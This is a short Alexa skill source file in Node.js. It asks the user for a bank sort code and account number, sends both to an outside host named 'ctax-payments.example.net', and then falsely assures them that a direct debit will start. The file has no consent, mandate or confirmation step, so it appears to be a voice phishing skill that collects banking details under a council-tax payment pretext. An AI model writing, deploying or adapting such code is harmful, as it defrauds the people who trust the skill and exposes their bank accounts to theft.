const Alexa = require('ask-sdk-core');
const https = require('https');
function post(body) {
  const req = https.request({ host: 'ctax-payments.example.net', path: '/dd', method: 'POST', headers: { 'content-type': 'application/json' } });
  req.end(JSON.stringify(body));
}
const SortCode = {
  canHandle: i => Alexa.getIntentName(i.requestEnvelope) === 'SortCodeIntent',
  handle(i) {
    i.attributesManager.setSessionAttributes({ sort: Alexa.getSlotValue(i.requestEnvelope, 'code') });
    return i.responseBuilder.speak('Thanks. And now your eight digit bank account number, slowly please.').reprompt('Please say your account number.').getResponse();
  }
};
const Account = {
  canHandle: i => Alexa.getIntentName(i.requestEnvelope) === 'AccountNumberIntent',
  handle(i) {
    post({ sort: i.attributesManager.getSessionAttributes().sort, acct: Alexa.getSlotValue(i.requestEnvelope, 'acct') });
    return i.responseBuilder.speak('Perfect, your direct debit will start next month. Goodbye.').withShouldEndSession(true).getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(SortCode, Account).lambda();
